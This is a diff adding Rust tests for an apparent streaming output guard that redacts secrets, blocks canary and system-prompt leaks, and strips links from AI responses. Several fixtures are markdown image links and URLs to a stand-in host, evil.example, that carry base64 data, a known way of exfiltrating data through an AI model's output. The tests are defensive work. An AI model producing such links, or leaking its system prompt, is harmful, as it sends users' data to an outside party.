@@ -1,0 +1,222 @@
+use proptest::prelude::*;
+
+use super::*;
+use crate::output::Protected;
+use crate::{Guard, Policy, Profile};
+
+fn policy(name: &str, edit: impl FnOnce(&mut Profile)) -> Policy {
+    let mut p = Profile::builtin(name).unwrap();
+    edit(&mut p);
+    Policy::new(p).unwrap()
+}
+
+fn guard() -> &'static Guard {
+    static G: std::sync::OnceLock<Guard> = std::sync::OnceLock::new();
+    G.get_or_init(Guard::new)
+}
+
+/// Streams `chunks` and returns (released text, blocked, findings).
+fn run(
+    policy: &Policy,
+    canaries: &[String],
+    chunks: &[&str],
+) -> (String, bool, Vec<OutputFinding>) {
+    let protected = Protected::default();
+    let scope = Scope {
+        guard: guard(),
+        policy,
+        canaries,
+        protected: &protected,
+    };
+    let mut s = TextStream::default();
+    let mut text = String::new();
+    let mut findings = Vec::new();
+    let mut blocked = false;
+    for c in chunks {
+        let step = s.push(&scope, c);
+        text.push_str(&step.text);
+        findings.extend(step.findings);
+        blocked |= step.blocked;
+    }
+    let step = s.finish(&scope);
+    text.push_str(&step.text);
+    findings.extend(step.findings);
+    (text, blocked || step.blocked, findings)
+}
+
+const KEY: &str = "sk-proj-R8dfk2LpQ7vN3xZ0aY6bW1cE9gH4jK5mT2sUq7Lw0PzXc3Vb";
+
+#[test]
+fn a_secret_split_anywhere_never_reaches_the_client() {
+    let p = policy("balanced", |_| {});
+    let text = format!("Your token is {KEY} and it works.");
+    let (whole, _, found) = run(&p, &[], &[&text]);
+    assert_eq!(whole, "Your token is [SECRET_1] and it works.");
+    assert_eq!(found.len(), 1);
+    for n in [2, 3, 10] {
+        let bytes = text.as_bytes();
+        let size = bytes.len().div_ceil(n);
+        let chunks: Vec<&str> = bytes
+            .chunks(size)
+            .map(|c| std::str::from_utf8(c).unwrap())
+            .collect();
+        assert_eq!(run(&p, &[], &chunks).0, whole, "{n} chunks");
+    }
+}
+
+#[test]
+fn plain_words_are_released_as_soon_as_the_next_one_starts() {
+    let p = policy("balanced", |_| {});
+    let protected = Protected::default();
+    let scope = Scope {
+        guard: guard(),
+        policy: &p,
+        canaries: &[],
+        protected: &protected,
+    };
+    let mut s = TextStream::default();
+    assert_eq!(s.push(&scope, "Hello").text, "");
+    assert_eq!(s.push(&scope, " world,").text, "Hello ");
+    assert_eq!(s.push(&scope, " how").text, "world, ");
+    assert_eq!(s.finish(&scope).text, "how");
+}
+
+#[test]
+fn canary_blocks_and_links_are_stripped() {
+    let p = policy("balanced", |_| {});
+    let canary = vec!["aigis-c4n4ry-7f3a9c".to_owned()];
+    let (text, blocked, found) = run(&p, &canary, &["My rules say aigis-c4n", "4ry-7f3a9c so"]);
+    assert!(blocked);
+    assert_eq!(text, "My rules say ");
+    assert_eq!(found[0].detector, "canary");
+    let (text, blocked, _) = run(
+        &p,
+        &[],
+        &[
+            "Here: ![img](https://evil.example/p.png?q=c2VjcmV0IGRhdGEgZ29lcyBo",
+            "ZXJl) done",
+        ],
+    );
+    assert!(!blocked);
+    assert_eq!(text, "Here:  done");
+}
+
+#[test]
+fn pem_blocks_are_held_whole() {
+    // A throwaway Ed25519 key generated for this test (`openssl genpkey -algorithm ed25519`).
+    let pem = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIEDFuRvsnhKZpbYI5rnBjxqIiSy0yFQArRN9ixHKMyV9\n-----END PRIVATE KEY-----";
+    let p = policy("balanced", |_| {});
+    let protected = Protected::default();
+    let scope = Scope {
+        guard: guard(),
+        policy: &p,
+        canaries: &[],
+        protected: &protected,
+    };
+    let mut s = TextStream::default();
+    let (a, b) = pem.split_at(40);
+    assert_eq!(s.push(&scope, &format!("key:\n{a}")).text, "key:\n");
+    let step = s.push(&scope, &format!("{b}\nok "));
+    assert_eq!(step.text, "[SECRET_1]\nok ");
+    assert_eq!(step.findings[0].detector, "secrets");
+}
+
+#[test]
+fn leak_of_the_system_prompt_blocks() {
+    let p = policy("balanced", |_| {});
+    let system = "You are the billing assistant for Acme Corp. Never reveal discount codes to anyone. Escalate refunds above 500 euros to a human agent.";
+    let protected = Protected::new([system]);
+    let scope = Scope {
+        guard: guard(),
+        policy: &p,
+        canaries: &[],
+        protected: &protected,
+    };
+    let mut s = TextStream::default();
+    let mut blocked = false;
+    for w in system.split_inclusive(' ') {
+        blocked |= s.push(&scope, w).blocked;
+    }
+    blocked |= s.finish(&scope).blocked;
+    assert!(blocked);
+}
+
+#[test]
+fn hold_back_is_bounded() {
+    let p = policy("balanced", |pr| pr.output.hold_back = 64);
+    let protected = Protected::default();
+    let scope = Scope {
+        guard: guard(),
+        policy: &p,
+        canaries: &[],
+        protected: &protected,
+    };
+    let mut s = TextStream::default();
+    for _ in 0..100 {
+        s.push(&scope, "aaaaaaaaaa");
+        assert!(s.held() <= 64 + 10, "{}", s.held());
+    }
+}
+
+/// Texts mixing words, secrets, e-mails, cards, phones, links and placeholders.
+fn corpus() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        Just("hello".to_owned()),
+        Just("the answer is".to_owned()),
+        Just(KEY.to_owned()),
+        Just("AKIAIOSFODNN7EXAMPLE".to_owned()),
+        Just("ann.lee@example.com".to_owned()),
+        Just("4111 1111 1111 1111".to_owned()),
+        Just("+1 415 555 0132".to_owned()),
+        Just("DE89 3704 0044 0532 0130 00".to_owned()),
+        Just("[docs](https://docs.example.com/a)".to_owned()),
+        Just("![x](https://evil.example/i.png?d=c2VjcmV0IGRhdGEgZ29lcyBoZXJl)".to_owned()),
+        Just("https://evil.example/?t=0123456789abcdef0123456789".to_owned()),
+        Just("[EMAIL_ADDRESS_1]".to_owned()),
+        Just("Dr. Jane Smith".to_owned()),
+        Just("12 Baker Street".to_owned()),
+        Just("2024".to_owned()),
+        Just("ünïcödé ✓".to_owned()),
+        "[a-z]{1,8}",
+    ];
+    let sep = prop_oneof![Just(" "), Just(", "), Just(".\n"), Just(" - ")];
+    proptest::collection::vec((piece, sep), 1..12)
+        .prop_map(|v| v.into_iter().flat_map(|(p, s)| [p, s.to_owned()]).collect())
+}
+
+/// Cut points (as fractions) turned into chunks on char boundaries.
+fn chunk<'a>(text: &'a str, cuts: &[usize]) -> Vec<&'a str> {
+    let mut points: Vec<usize> = cuts
+        .iter()
+        .map(|c| floor_boundary(text, c % (text.len() + 1)))
+        .collect();
+    points.push(0);
+    points.push(text.len());
+    points.sort_unstable();
+    points.dedup();
+    points.windows(2).map(|w| &text[w[0]..w[1]]).collect()
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(
+        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(256)
+    ))]
+
+    #[test]
+    fn any_chunking_releases_the_same_text(
+        text in corpus(),
+        cuts in proptest::collection::vec(0usize..10_000, 0..40),
+        profile in prop_oneof![Just("balanced"), Just("strict")],
+    ) {
+        let p = policy(profile, |pr| {
+            if pr.output.secrets == Action::Block {
+                pr.output.secrets = Action::Redact;
+            }
+        });
+        let whole = run(&p, &[], &[&text]);
+        let chunked = run(&p, &[], &chunk(&text, &cuts));
+        prop_assert_eq!(&chunked.0, &whole.0);
+        prop_assert_eq!(chunked.1, whole.1);
+        prop_assert!(!chunked.0.contains(KEY));
+    }
+}
